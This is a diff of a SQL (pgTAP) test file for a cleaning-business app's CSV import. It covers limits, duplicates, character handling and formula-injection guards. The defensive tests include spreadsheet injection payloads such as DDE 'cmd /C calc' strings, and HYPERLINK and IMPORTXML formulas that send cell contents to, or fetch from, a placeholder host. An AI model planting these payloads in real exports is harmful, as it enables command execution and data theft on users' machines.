@@ -2,7 +2,7 @@
 -- refused and how that is told, and that nothing is half done.
 \ir include/postgrest.sql
 \ir include/act_as.sql
-SELECT plan(136);
+SELECT plan(139);
 
 SELECT test.claims('Alder Clean', 'dispatcher') AS dispatcher, test.claims('Birch Services', 'owner') AS stranger \gset
 
@@ -19,6 +19,8 @@ AS $$
 	FROM test.rpc(CASE WHEN import.role <> '' THEN test.claims(import.org, import.role) END, 'cleaning_v1', 'import_' || what,
 		jsonb_build_object('csv', import.csv) || more) AS r
 $$;
+CREATE FUNCTION public.cell(value text) RETURNS text LANGUAGE sql IMMUTABLE
+RETURN '"' || replace(value, '"', '""') || '"';
 -- What an organization has that the demo data has not.
 CREATE FUNCTION public.clients(org text DEFAULT 'Alder Clean') RETURNS text
 LANGUAGE sql
@@ -82,7 +84,7 @@ SELECT is(import('clients', U&'\FEFFPhone;NAME;"email"' || E'\r\n+1 (555) 010-99
 	'{"delimiter": ";"}'), '200 {"errors": [], "skipped": 0, "imported": 2}', 'a file as spreadsheets write it');
 SELECT is(clients(), 'Björk; "B" GmbH/b@example.org/+1 (555) 010-9999/-, Zoë/-/+44 20 7946 0000/-', 'is taken for what it says');
 SELECT is(import('clients', 'name,email'), '200 {"errors": [], "skipped": 0, "imported": 0}', 'a header alone is nothing');
-SELECT is(import('clients', E'name\n""\n'), '422 PT422 import has 1 rows with errors | 2 name is required', 'an empty name is none');
+SELECT is(import('clients', E'name\n""\n'), '422 PT422 import has 1 row with errors | 2 name is required', 'an empty name is none');
 SELECT is(import('clients', ''), '400 22P04 the CSV has no header The first record names the columns: name (required), email, phone, address.',
 	'an empty file is no file');
 SELECT is(import('clients', 'email'),
@@ -125,8 +127,13 @@ SELECT is(import('clients', :'errors', '{"partial": true}'), '200 {"errors": [{"
 	'{"line": 4, "column": "address", "message": "begins like a formula: an apostrophe before it says that it is text"}, '
 	'{"line": 5, "column": "email", "message": "is the e-mail address of a client"}, {"line": 6, "column": "email", "message": "is the e-mail address of a client"}], '
 	'"skipped": 5, "imported": 0}', 'once: then every row is there');
+SELECT is(import('clients', E'name,email,phone\nFay,,1\nFay,,2\nFay,fay@x.example,1\nFay,,1\nEve,,'), '422 PT422 import has 1 row with errors'
+	' | 5 name is on line 2 too, and nothing tells the two apart', 'rows without an e-mail address are told apart by all the rest');
+SELECT is(import('clients', format(E'name,phone,address\nAnn,1,\nAnn,2,\n%s,%s,%s', c.name, c.phone, cell(c.address))), '422 PT422 import has 2 rows with errors'
+	' | 2 name is that of a client, and nothing tells the two apart | 4 name is that of a client, and nothing tells the two apart', 'from clients, too')
+FROM cleaning.clients AS c WHERE c.email = :'taken' AND c.org_id = '0d9f6c1e-0000-7000-8000-00000000000a';
 SELECT is(import('clients', E'name,email\n' || repeat('n', 200) || ',' || repeat('e', 308) || '@example.com' || E'\n' || repeat('n', 201) || ',' || repeat('e', 309) || '@example.com'),
-	'422 PT422 import has 1 rows with errors | 3 name is longer than 200 characters | 3 email is no e-mail address', 'what is too long');
+	'422 PT422 import has 1 row with errors | 3 name is longer than 200 characters | 3 email is no e-mail address', 'what is too long');
 SELECT is(import('clients', E'name\n"a\nb"\n' || U&'x\FFFDy' || E'\nz\u0001\nq\u007F\n"c\td"'),
 	'422 PT422 import has 3 rows with errors | 4 name has a character that is no text | 5 name has a character that is no text | 6 name has a character that is no text',
 	'what was lost on the way, and control characters');
@@ -141,8 +148,6 @@ INSERT INTO public.formulas VALUES ('=1+1'), ('+1+A1'), ('-1+A1'), ('@SUM(1)'), 
 	(U&'\3000+A1'), (U&'\FEFF=1'), (U&'\200B=1'), (U&'\FF1D1+1'), (U&'\FF0BA1'), (U&'\FF0DA1'), (U&'\FF20A1'), ('=cmd|'' /C calc''!A0'),
 	('@SUM(1+1)*cmd|'' /C calc''!A0'), ('-2+3+cmd|'' /C calc''!A0'), ('+cmd|'' /C calc''!A0'), ('=HYPERLINK("http://x.example/?"&A1,"y")'),
 	('+''file:///c:/x.ods''#$Sheet1.A1'), ('=IMPORTXML("http://x.example/","//a")'), ('-"1"+A1'), ('=DDE("cmd";"/C calc";"x")');
-CREATE FUNCTION public.cell(value text) RETURNS text LANGUAGE sql IMMUTABLE
-RETURN '"' || replace(value, '"', '""') || '"';
 SELECT is(import('clients', (SELECT E'name,email,phone,address\n' || string_agg(format(E'a,%s,%s,%s\n%s,,,', cell(f.cell), cell(f.cell), cell(f.cell), cell(f.cell)), E'\n')
 	FROM public.formulas AS f), '{"partial": true}') ~ '"skipped": 52, "imported": 0', true, 'no formula comes in with a client');
 SELECT is(import('bookings', (SELECT E'client_email,starts_at,ends_at,address,notes,price\n' || string_agg(format(E'%s,2026-01-05T17:00,2026-01-05T18:00,%s,,\n'
@@ -153,14 +158,16 @@ SELECT results_eq($$SELECT f.cell FROM public.formulas AS f
 	WHERE cleaning.import_cell_flaw('''' || f.cell, NULL) IS NULL OR cleaning.import_cell_flaw('''''' || f.cell, NULL) IS NULL ORDER BY f.cell COLLATE "C"$$,
 	$$SELECT f.cell FROM public.formulas AS f WHERE f.cell IN ('+1+A1', '-1+A1', '   @A1', U&'\3000+A1', U&'\FF0BA1', U&'\FF0DA1', U&'\FF20A1', '-"1"+A1')
 	ORDER BY f.cell COLLATE "C"$$, 'an apostrophe lets in sums of cells, which do no harm, and no formula that can');
-SELECT is(import('clients', E'name,phone,address\nA,+1 555,"''- Flat 3"\nB,-1,"''''- Flat 3"\nC,+1+A1,"''=1"'), '422 PT422 import has 1 rows with errors'
+SELECT is(import('clients', E'name,phone,address\nA,+1 555,"''- Flat 3"\nB,-1,"''''- Flat 3"\nC,+1+A1,"''=1"'), '422 PT422 import has 1 row with errors'
 	' | 4 phone begins like a formula: an apostrophe before it says that it is text | 4 address is a formula', 'numbers, and text said to be text, are none');
 SELECT is(import('clients', E'name,phone,address\nA,+1 555,"''- Flat 3"\nB,-1,"''''- Flat 3"\n''t Hooft,''+1 555,'), '200 {"errors": [], "skipped": 0, "imported": 3}',
 	'they come in');
 SELECT is(clients(), '''t Hooft/-/+1 555/-, A/-/+1 555/- Flat 3, B/-/-1/''- Flat 3', 'with one apostrophe less, but for names that begin so');
-SELECT is(import('clients', (SELECT E'name,phone,address\n' || string_agg(concat_ws(',', cell(ringfence.csv_guard(c.name)), cell(ringfence.csv_guard(c.phone)),
-		coalesce(cell(ringfence.csv_guard(c.address)), '')), E'\n') FROM cleaning.clients AS c WHERE c.id::text NOT LIKE '0d9f6c1e%'), '{}', 'owner', 'Birch Services'),
-	'200 {"errors": [], "skipped": 0, "imported": 3}', 'as they do when exported');
+SELECT matches(ringfence.csv(c), E'(?n)^B,"\'-1","\'\'- Flat 3"\r?$', 'they go out guarded')
+FROM (SELECT c.name, c.phone, c.address FROM cleaning.clients AS c WHERE c.id::text NOT LIKE '0d9f6c1e%') AS c;
+SELECT is(import('clients', (SELECT ringfence.csv(c) FROM (
+		SELECT c.name, c.phone, c.address FROM cleaning.clients AS c WHERE c.id::text NOT LIKE '0d9f6c1e%') AS c), '{}', 'owner', 'Birch Services'),
+	'200 {"errors": [], "skipped": 0, "imported": 3}', 'and come in elsewhere');
 SELECT is(clients('Birch Services'), clients(), 'and are the same then');
 SELECT public.forget();
 
@@ -239,7 +246,7 @@ SELECT is((cleaning.import_moment('2026-04-05 01:45', 'Australia/Lord_Howe')).fl
 SELECT public.forget();
 
 -- As much as there may be.
-SELECT is(import('clients', E'name\n' || repeat('x', 10485760 - 5)), '422 PT422 import has 1 rows with errors | 2 name is longer than 200 characters', 'ten mebibytes are read');
+SELECT is(import('clients', E'name\n' || repeat('x', 10485760 - 5)), '422 PT422 import has 1 row with errors | 2 name is longer than 200 characters', 'ten mebibytes are read');
 SELECT is(import('clients', E'name\n' || repeat('x', 10485760 - 4)), '413 PT413 file is larger than 10485760 bytes', 'and not one byte more');
 SELECT is(import('clients', E'name\n' || repeat(E'x\n', 50001)), '413 PT413 file has more than 50000 rows', 'fifty thousand rows, and not one more');
 SELECT is(import('clients', E'name\n' || repeat(E'=\n', 50000)) ~ '^422 PT422 import has 50000 rows with errors', true, 'which need not be sound');
@@ -253,7 +260,7 @@ SELECT is(clients(), NULL, 'and all is undone');
 SELECT is(r.body - 'errors', '{"skipped": 2, "imported": 2}', 'or what they refuse')
 FROM test.rpc(:'dispatcher', 'cleaning_v1', 'import_clients', '{"csv": "name,phone,address\na,12,1\nb,13,2\nc,14,1\nd,15,3", "partial": true}') AS r;
 SELECT is(clients(), 'a/-/12/1, d/-/15/3', 'the others are in');
-SELECT is(import('clients', E'name,phone\n' || repeat(E'x,13\n', 600)), '422 PT422 import has too many rows that break rules of the tables', 'which is not tried for ever');
+SELECT is(import('clients', (SELECT E'name,phone\n' || string_agg(n || ',13', E'\n') FROM generate_series(1, 600) AS n)), '422 PT422 import has too many rows that break rules of the tables', 'which is not tried for ever');
 ALTER TABLE cleaning.clients DROP CONSTRAINT regress_secret_rule, DROP CONSTRAINT regress_secret_key;
 SELECT public.forget();
 
